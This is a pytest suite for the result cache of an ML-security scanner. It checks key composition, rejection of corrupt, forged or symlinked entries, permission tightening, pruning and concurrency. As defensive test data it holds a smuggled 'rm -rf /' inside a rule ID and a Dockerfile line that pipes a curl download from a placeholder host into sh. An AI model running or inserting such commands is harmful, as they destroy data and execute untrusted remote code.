"""The result cache: what goes into a key, and that no stale, corrupt, forged, linked or
half-written entry ever changes a verdict (hooks/_core/cache.py)."""

from __future__ import annotations

import json
import multiprocessing
import os
import stat
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from hooks._core.cache import (
    MAX_ENTRY_BYTES,
    PRUNE_INTERVAL_SECONDS,
    PRUNE_STAMP,
    CacheUnavailable,
    ResultCache,
    _finding_document,
    content_digest,
    fingerprint_of,
)
from hooks._core.findings import Finding
from hooks._core.policy import Policy, RuleOverride
from hooks._core.severity import Severity
from hooks.catalog import registry, spec_for
from tests.conftest import PROJECT

CODE = spec_for("mlsec-code")
SECRETS = spec_for("mlsec-secrets")


def _finding(display: str, rule_id: str = "MLS301", line: int = 2) -> Finding:
    return Finding(rule_id, Severity.HIGH, display, line, 1, "unsafe call", "0123456789abcdef01234567")


@pytest.fixture
def cache(tmp_path: Path) -> ResultCache:
    return ResultCache.open(tmp_path / "cache")


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "repo" / "train.py"
    path.parent.mkdir()
    path.write_text("import pickle\npickle.loads(data)\n")
    return path


def _policy(tmp_path: Path, **changes: object) -> Policy:
    return replace(Policy(root=tmp_path / "repo"), **changes)  # type: ignore[arg-type]


def _entry_file(cache: ResultCache, key: str) -> Path:
    return cache.folder / key[:2] / key[2:]


def test_a_stored_verdict_is_found_again_exactly(cache: ResultCache, source: Path, tmp_path: Path) -> None:
    policy = _policy(tmp_path)
    probe = cache.probe(CODE, source, "train.py", policy)
    assert probe is not None and cache.lookup(probe, registry()) is None
    findings = [_finding("train.py"), _finding("train.py", "B301", 3)]
    assert cache.store(probe, findings, ["a notice"])
    again = cache.probe(CODE, source, "train.py", policy)
    assert again == probe
    entry = cache.lookup(again, registry())
    assert entry is not None and list(entry.findings) == findings and entry.notices == ("a notice",)
    assert (cache.stats.hits, cache.stats.misses, cache.stats.rejected) == (1, 1, 0)


def test_the_key_follows_content_path_hook_policy_and_rules(cache: ResultCache, source: Path, tmp_path: Path) -> None:
    policy = _policy(tmp_path)
    base = cache.probe(CODE, source, "train.py", policy)
    assert base is not None
    keys = {base.key}
    keys.add(cache.probe(CODE, source, "other.py", policy).key)  # type: ignore[union-attr]
    keys.add(cache.probe(SECRETS, source, "train.py", policy).key)  # type: ignore[union-attr]
    for changed in (
        _policy(tmp_path, sections={"code": {"bandit_skip": ["B101"]}}),
        _policy(tmp_path, rules={"MLS301": RuleOverride(severity=Severity.LOW)}),
        _policy(tmp_path, rules={"MLS301": RuleOverride(enabled=False)}),
        _policy(tmp_path, profile="strict"),
        _policy(tmp_path, exclude=("vendor/**",)),
    ):
        keys.add(cache.probe(CODE, source, "train.py", changed).key)  # type: ignore[union-attr]
    source.write_text("import pickle\npickle.loads(data)  \n")
    keys.add(cache.probe(CODE, source, "train.py", policy).key)  # type: ignore[union-attr]
    assert len(keys) == 9


def test_the_code_key_follows_rules_formats_schemas_and_backends(tmp_path: Path) -> None:
    """Every key starts from the package's code and the installed distributions: a new rule or
    format reader, a schema edit or a backend upgrade means every file is judged again."""
    import shutil

    package = tmp_path / "hooks"
    shutil.copytree(PROJECT / "hooks", package, ignore=shutil.ignore_patterns("__pycache__"))
    site = tmp_path / "site"
    (site / "bandit-1.7.9.dist-info").mkdir(parents=True)
    keys = [fingerprint_of(package, [str(site)])]
    (package / "__pycache__").mkdir(exist_ok=True)
    (package / "__pycache__" / "x.pyc").write_bytes(b"compiled")
    (package / "notes.md").write_text("prose")
    assert fingerprint_of(package, [str(site)]) == keys[0]  # neither code nor data
    with (package / "artifacts" / "rules.py").open("a") as handle:
        handle.write("\n# a new rule\n")
    keys.append(fingerprint_of(package, [str(site)]))
    (package / "artifacts" / "formats" / "newformat.py").write_text("")
    keys.append(fingerprint_of(package, [str(site)]))
    with (package / "deps" / "policy_schema.json").open("a") as handle:
        handle.write(" ")
    keys.append(fingerprint_of(package, [str(site)]))
    (site / "bandit-1.7.9.dist-info").rename(site / "bandit-1.8.0.dist-info")
    keys.append(fingerprint_of(package, [str(site)]))
    # An edit that keeps the size (a severity "high" -> "mid!") still rewrites the file.
    rules = package / "code" / "rules.py"
    text = rules.read_text()
    info = rules.stat()
    rules.write_text(text[:-1] + ("#" if text[-1] != "#" else " "))
    os.utime(rules, ns=(info.st_atime_ns, info.st_mtime_ns + 1_000_000))
    assert rules.stat().st_size == info.st_size
    keys.append(fingerprint_of(package, [str(site)]))
    assert len(set(keys)) == 6


def test_policy_parts_that_do_not_reach_the_hook_keep_the_key(cache: ResultCache, source: Path, tmp_path: Path) -> None:
    one = cache.probe(CODE, source, "train.py", _policy(tmp_path))
    other = cache.probe(
        CODE, source, "train.py", _policy(tmp_path, fail_on=Severity.LOW, sections={"deps": {"online": True}})
    )
    assert one is not None and other is not None and one.key == other.key


def test_a_declared_input_file_is_part_of_the_key(cache: ResultCache, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    notes = repo / "notes.txt"
    notes.write_text("hello\n")
    policy = Policy(root=repo)
    absent = cache.probe(SECRETS, notes, "notes.txt", policy)
    (repo / ".secrets.baseline").write_text('{"results": {}}')
    present = cache.probe(SECRETS, notes, "notes.txt", policy)
    (repo / ".secrets.baseline").write_text('{"results": {"x": []}}')
    changed = cache.probe(SECRETS, notes, "notes.txt", policy)
    assert absent is not None and present is not None and changed is not None
    assert len({absent.key, present.key, changed.key}) == 3


def test_two_checkouts_of_one_commit_share_their_keys(cache: ResultCache, tmp_path: Path) -> None:
    """Declared input files are named relative to the repository, so a CI runner that checks
    out into another folder still hits; a different input is still a different key."""
    keys = []
    for name, accepted in (("one", []), ("two", []), ("three", ["x"])):
        repo = tmp_path / name
        repo.mkdir()
        (repo / "notes.txt").write_text("hello\n")
        (repo / ".secrets.baseline").write_text(json.dumps({"results": {"a": accepted}}))
        probe = cache.probe(SECRETS, repo / "notes.txt", "notes.txt", Policy(root=repo))
        assert probe is not None
        keys.append(probe.key)
    assert keys[0] == keys[1] != keys[2]


def test_deps_caches_notebooks_but_not_requirements_that_include_others(cache: ResultCache, tmp_path: Path) -> None:
    """A requirements file's `-r base.txt` is followed, so its verdict depends on another file;
    the requirements a notebook writes are checked without following includes."""
    deps = spec_for("mlsec-deps")
    repo = tmp_path / "repo"
    repo.mkdir()
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    notebook = {"cells": [{**cell, "source": ["%%writefile requirements.txt\n", "-r base.txt\n"]}], "metadata": {}}
    (repo / "setup.ipynb").write_text(json.dumps({**notebook, "nbformat": 4, "nbformat_minor": 5}))
    (repo / "requirements.txt").write_text("-r base.txt\ntorch==2.0.0\n")
    (repo / "requirements-lock.txt").write_text("torch==2.0.0\n")
    policy = Policy(root=repo)
    assert cache.probe(deps, repo / "setup.ipynb", "setup.ipynb", policy) is not None
    assert cache.probe(deps, repo / "requirements.txt", "requirements.txt", policy) is None
    assert cache.probe(deps, repo / "requirements-lock.txt", "requirements-lock.txt", policy) is not None


def test_a_hook_can_refuse_caching_a_file(cache: ResultCache, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text("-r base.txt\nflask==2.0\n")
    (repo / "base.txt").write_text("numpy==1.0\n")
    deps = spec_for("mlsec-deps")
    assert cache.probe(deps, repo / "requirements.txt", "requirements.txt", Policy(root=repo)) is None
    assert cache.probe(deps, repo / "base.txt", "base.txt", Policy(root=repo)) is not None


@pytest.mark.parametrize(
    "damage",
    ["flip_body", "flip_mac", "truncate", "empty", "garbage", "other_key", "huge"],
)
def test_a_damaged_entry_is_a_miss_never_a_verdict(
    cache: ResultCache, source: Path, tmp_path: Path, damage: str
) -> None:
    policy = _policy(tmp_path)
    probe = cache.probe(CODE, source, "train.py", policy)
    assert probe is not None and cache.store(probe, [_finding("train.py")], [])
    entry = _entry_file(cache, probe.key)
    data = entry.read_bytes()
    if damage == "flip_body":
        data = data[:-5] + bytes([data[-5] ^ 1]) + data[-4:]
    elif damage == "flip_mac":
        data = bytes([data[0] ^ 1]) + data[1:]
    elif damage == "truncate":
        data = data[: len(data) // 2]
    elif damage == "empty":
        data = b""
    elif damage == "garbage":
        data = os.urandom(300)
    elif damage == "other_key":  # a valid entry of another file copied over this one
        other = cache.probe(CODE, source, "elsewhere.py", policy)
        assert other is not None and cache.store(other, [], [])
        data = _entry_file(cache, other.key).read_bytes()
    else:
        data = data + b" " * MAX_ENTRY_BYTES
    entry.write_bytes(data)
    assert cache.lookup(probe, registry()) is None
    assert cache.stats.rejected == 1


def _forge(cache: ResultCache, key: str, document: object) -> None:
    """An entry written with the right secret: only validation stands between it and a verdict."""
    body = json.dumps(document).encode()
    path = _entry_file(cache, key)
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(cache._mac(key, body).encode() + b"\n" + body)


@pytest.mark.parametrize(
    "change",
    [
        {"rule_id": "MLS999"},
        {"rule_id": "B301; rm -rf /"},
        {"path": "other.py"},
        {"severity": "none"},
        {"line": 0},
        {"line": True},
        {"cell": -1},
        {"fingerprint": "zz"},
        {"confidence": "certain"},
        {"earlier_fingerprint": "zz"},
        {"earlier_fingerprint": 7},
        {"extra": 1},
    ],
)
def test_an_authentic_but_invalid_entry_is_refused(
    cache: ResultCache, source: Path, tmp_path: Path, change: dict[str, object]
) -> None:
    probe = cache.probe(CODE, source, "train.py", _policy(tmp_path))
    assert probe is not None
    finding = {**_finding_document(_finding("train.py")), **change}
    _forge(cache, probe.key, {"format": 1, "key": probe.key, "findings": [finding], "notices": []})
    assert cache.lookup(probe, registry()) is None
    good = {"format": 1, "key": probe.key, "findings": [_finding_document(_finding("train.py"))], "notices": []}
    _forge(cache, probe.key, good)
    assert cache.lookup(probe, registry()) is not None


def test_entries_and_shard_folders_are_never_followed_through_links(
    cache: ResultCache, source: Path, tmp_path: Path
) -> None:
    policy = _policy(tmp_path)
    probe = cache.probe(CODE, source, "train.py", policy)
    assert probe is not None and cache.store(probe, [], [])
    entry = _entry_file(cache, probe.key)
    elsewhere = tmp_path / "planted"
    elsewhere.write_bytes(entry.read_bytes())
    entry.unlink()
    entry.symlink_to(elsewhere)
    assert cache.lookup(probe, registry()) is None
    shard = entry.parent
    moved = tmp_path / "moved-shard"
    entry.unlink()
    shard.rename(moved)
    (moved / entry.name).write_bytes(elsewhere.read_bytes())
    shard.symlink_to(moved, target_is_directory=True)
    later = ResultCache.open(cache.folder.parent)  # the next run
    assert later.lookup(probe, registry()) is None
    assert not later.store(probe, [], [])  # nor written through a linked folder


def test_a_file_changed_during_its_scan_is_not_stored(cache: ResultCache, source: Path, tmp_path: Path) -> None:
    probe = cache.probe(CODE, source, "train.py", _policy(tmp_path))
    assert probe is not None
    source.write_text("print('changed meanwhile')\n")
    assert not cache.store(probe, [], [])


def test_cross_file_reports_are_not_stored(cache: ResultCache, source: Path, tmp_path: Path) -> None:
    probe = cache.probe(CODE, source, "train.py", _policy(tmp_path))
    assert probe is not None
    assert not cache.store(probe, [_finding("included.txt")], [])
    assert cache.store(probe, [_finding("train.py")], [])


@pytest.mark.parametrize("failure", ["crash", "limit", "memory"])
def test_a_crash_or_a_stopped_analysis_is_never_cached(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: str
) -> None:
    """MLS900 (the scanner crashed) and MLS903 (a limit stopped it) may not come out the same
    next time: each run analyses the file again."""
    from hooks._core.runner import Target, scan_targets
    from hooks._core.tail import TailContext
    from hooks.artifacts.errors import LimitExceeded
    from hooks.artifacts.walker import Walker

    def fail(*args: object, **kwargs: object) -> None:
        if failure == "crash":
            raise RuntimeError("boom")
        raise LimitExceeded("time limit") if failure == "limit" else MemoryError

    monkeypatch.setattr(Walker, "walk_file", fail)
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "model.pkl").write_bytes(b"\x80\x04K\x01.")
    artifacts = spec_for("mlsec-artifacts")
    context = TailContext(Policy(root=repo), registry())
    for _ in range(2):
        cache = ResultCache.open(tmp_path / "cache")
        found = scan_targets([Target(repo / "model.pkl", "model.pkl")], [artifacts], context, select=False, cache=cache)
        assert [f.rule_id for f in found.findings] == ["MLS900" if failure == "crash" else "MLS903"]
        assert cache.stats.hits == 0
    assert not [p for p in (tmp_path / "cache" / "results-v1").glob("??/*")]


def test_the_cache_is_bounded_and_prunes_least_recently_used(tmp_path: Path) -> None:
    cache = ResultCache.open(tmp_path / "cache", max_bytes=20_000)
    repo = tmp_path / "repo"
    repo.mkdir()
    keys = []
    for index in range(120):
        path = repo / f"f{index}.py"
        path.write_text(f"x = {index}\n")
        probe = cache.probe(CODE, path, path.name, Policy(root=repo))
        assert probe is not None and cache.store(probe, [_finding(path.name)], [])
        os.utime(_entry_file(cache, probe.key), (1_000_000 + index, 1_000_000 + index))
        keys.append(probe.key)
    assert cache.size()[1] > 20_000
    assert cache.prune() > 0
    count, size = cache.size()
    assert size <= 20_000 and count < 120
    assert _entry_file(cache, keys[-1]).exists() and not _entry_file(cache, keys[0]).exists()


def test_runs_prune_at_most_once_an_interval(tmp_path: Path) -> None:
    """Pruning stats every entry, so runs that add entries prune only when the last prune is
    older than PRUNE_INTERVAL_SECONDS; until then the folder may pass its bound."""
    cache = ResultCache.open(tmp_path / "cache", max_bytes=2_000)
    repo = tmp_path / "repo"
    repo.mkdir()

    def fill(count: int, start: int) -> None:
        for index in range(start, start + count):
            path = repo / f"f{index}.py"
            path.write_text(f"x = {index}\n")
            probe = cache.probe(CODE, path, path.name, Policy(root=repo))
            assert probe is not None and cache.store(probe, [_finding(path.name)], [])

    fill(30, 0)
    assert cache.prune_if_due(now=1_000_000.0) > 0  # never pruned: due
    assert cache.size()[1] <= 2_000
    fill(30, 100)
    assert cache.prune_if_due(now=1_000_000.0 + PRUNE_INTERVAL_SECONDS - 1) == 0  # not yet
    assert cache.size()[1] > 2_000
    assert cache.prune_if_due(now=1_000_000.0 + PRUNE_INTERVAL_SECONDS + 1) > 0
    assert cache.size()[1] <= 2_000
    # A stamp replaced by a link is never followed: pruning goes on, the target is untouched.
    target = tmp_path / "elsewhere"
    target.write_text("keep")
    (cache.folder / PRUNE_STAMP).unlink()
    (cache.folder / PRUNE_STAMP).symlink_to(target)
    os.utime(cache.folder / PRUNE_STAMP, (1_000_000.0, 1_000_000.0), follow_symlinks=False)
    fill(30, 200)
    assert cache.prune_if_due(now=1_000_000.0 + PRUNE_INTERVAL_SECONDS + 2) > 0
    assert target.read_text() == "keep"


def test_a_loose_cache_is_tightened_and_an_exposed_key_replaced(tmp_path: Path) -> None:
    """What a CI cache restore with loose modes looks like: the folder becomes private again, and
    a key others could read is replaced, so every entry signed with it is refused."""
    home = tmp_path / "cache"
    first = ResultCache.open(home)
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "a.py").write_text("x = 1\n")
    probe = first.probe(CODE, repo / "a.py", "a.py", Policy(root=repo))
    assert probe is not None and first.store(probe, [], [])
    folder = home / "results-v1"
    folder.chmod(0o777)
    (folder / "secret").chmod(0o644)
    again = ResultCache.open(home)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert again.secret != first.secret and stat.S_IMODE((folder / "secret").stat().st_mode) == 0o600
    assert again.lookup(probe, registry()) is None and again.stats.rejected == 1
    (folder / "secret").unlink()
    (folder / "secret").symlink_to(tmp_path / "planted")
    (tmp_path / "planted").write_bytes(b"k" * 32)
    third = ResultCache.open(home)
    assert not (folder / "secret").is_symlink() and third.secret != b"k" * 32


def test_a_linked_results_folder_is_refused(tmp_path: Path) -> None:
    real = tmp_path / "real"
    ResultCache.open(real)
    home = tmp_path / "home"
    home.mkdir()
    (home / "results-v1").symlink_to(real / "results-v1", target_is_directory=True)
    with pytest.raises(CacheUnavailable):
        ResultCache.open(home)


def test_a_cache_tracked_by_git_is_refused(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    home = repo / ".mlsec-cache"
    ResultCache.open(home, repo)  # inside the repository but untracked: fine
    subprocess.run(["git", "-C", str(repo), "add", "-f", ".mlsec-cache"], check=True)
    with pytest.raises(CacheUnavailable, match="tracked by git"):
        ResultCache.open(home, repo)


def test_content_digest_refuses_what_is_not_a_regular_file(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(OSError):
        content_digest(fifo)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def _writer(home: str, repo: str, rounds: int) -> int:
    cache = ResultCache.open(Path(home))
    hits = 0
    for round_ in range(rounds):
        for index in range(20):
            path = Path(repo) / f"f{index}.py"
            probe = cache.probe(CODE, path, path.name, Policy(root=Path(repo)))
            assert probe is not None
            entry = cache.lookup(probe, registry())
            if entry is not None:
                assert list(entry.findings) == [_finding(path.name, line=index + 1)]
                hits += 1
            else:
                cache.store(probe, [_finding(path.name, line=index + 1)], [])
    assert cache.stats.rejected == 0, round_
    return hits


def test_concurrent_runs_share_one_cache_without_corrupting_it(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    for index in range(20):
        (repo / f"f{index}.py").write_text(f"x = {index}\n")
    context = multiprocessing.get_context("fork" if "fork" in multiprocessing.get_all_start_methods() else None)
    with context.Pool(4) as pool:
        hits = pool.starmap(_writer, [(str(tmp_path / "cache"), str(repo), 5)] * 4)
    assert sum(hits) >= 4 * 20 * 3  # after its first round, every process finds every verdict
    secrets = list((tmp_path / "cache" / "results-v1").glob("secret*"))
    assert [p.name for p in secrets] == ["secret"]


def _run(repo: Path, cache: ResultCache) -> list[Finding]:
    from hooks._core.runner import Target, scan_targets
    from hooks._core.tail import TailContext

    targets = [Target(path, path.name) for path in sorted(repo.glob("*.py"))]
    result = scan_targets(targets, [CODE], TailContext(Policy(root=repo), registry()), select=False, cache=cache)
    return sorted(result.findings, key=lambda f: f.sort_key)


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_warm_run_reads_one_bundle_and_a_damaged_bundle_falls_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, jobs: str
) -> None:
    """The cold run leaves the bundle, also when its files were scanned by worker processes."""
    from hooks._core.cache import bundle_key

    monkeypatch.setenv("MLSEC_JOBS", jobs)
    repo = tmp_path / "repo"
    repo.mkdir()
    for index in range(6):
        (repo / f"m{index}.py").write_text(f"import pickle\nx{index} = pickle.loads(b'')\n")
    home = tmp_path / "cache"
    cold = _run(repo, ResultCache.open(home))
    warm_cache = ResultCache.open(home)
    also = [spec for spec in registry().specs if spec.hook_id in CODE.cache_with]
    probes = [warm_cache.probe(CODE, p, p.name, Policy(root=repo), also) for p in sorted(repo.glob("*.py"))]
    bundle = _entry_file(warm_cache, bundle_key(CODE, [p for p in probes if p is not None]))
    assert bundle.is_file()
    assert _run(repo, warm_cache) == cold and len(cold) >= 6
    assert warm_cache.stats.hits == 6 and warm_cache.stats.misses == 0
    data = bytearray(bundle.read_bytes())
    data[-3] ^= 1
    bundle.write_bytes(bytes(data))
    damaged = ResultCache.open(home)
    assert _run(repo, damaged) == cold
    assert damaged.stats.rejected == 1 and damaged.stats.hits == 6  # one by one from the file entries
    for entry in (home / "results-v1").glob("??/*"):
        if entry.name != "secret":
            entry.write_bytes(b"x")
    assert _run(repo, ResultCache.open(home)) == cold


def test_a_bundle_naming_a_file_outside_the_run_is_refused(cache: ResultCache, tmp_path: Path) -> None:
    from hooks._core.cache import bundle_key

    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "a.py").write_text("x = 1\n")
    probe = cache.probe(CODE, repo / "a.py", "a.py", Policy(root=repo))
    assert probe is not None
    key = bundle_key(CODE, [probe])
    entry = {"findings": [], "notices": []}
    _forge(cache, key, {"format": 1, "key": key, "files": {"f" * 64: entry}, "notices": []})
    assert cache.lookup_bundle(CODE, [probe], registry()) is None
    _forge(cache, key, {"format": 1, "key": key, "files": {probe.key: entry}, "notices": []})
    assert cache.lookup_bundle(CODE, [probe], registry()) is not None


def test_written_files_are_keyed_on_the_hooks_that_judge_them(tmp_path: Path) -> None:
    """A notebook's `%%writefile Dockerfile` is judged by the Dockerfile hook under its own policy
    section: the code hook's key holds that section (spec.cache_with), so the verdict is cached
    and a change of the Dockerfile hook's policy is a new key."""
    from dataclasses import replace as changed

    from hooks._core.runner import Target, scan_targets
    from hooks._core.tail import TailContext

    repo = tmp_path / "repo"
    repo.mkdir()
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    source = ["%%writefile Dockerfile\n", "FROM python\n", "RUN curl https://x.example/i.sh | sh\n"]
    notebook = {"cells": [{**cell, "source": source}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (repo / "build.ipynb").write_text(json.dumps(notebook))
    policy = Policy(root=repo)
    runs = []
    for run_policy, hits in ((policy, 0), (policy, 1), (changed(policy, sections={"dockerfile": {"changed": 1}}), 0)):
        cache = ResultCache.open(tmp_path / "cache")
        context = TailContext(run_policy, registry())
        found = scan_targets([Target(repo / "build.ipynb", "build.ipynb")], [CODE], context, select=False, cache=cache)
        runs.append(sorted(f.rule_id for f in found.findings))
        assert cache.stats.hits == hits
    assert runs[0] == runs[1] == runs[2] and runs[0], "the written Dockerfile's findings come from the Dockerfile hook"
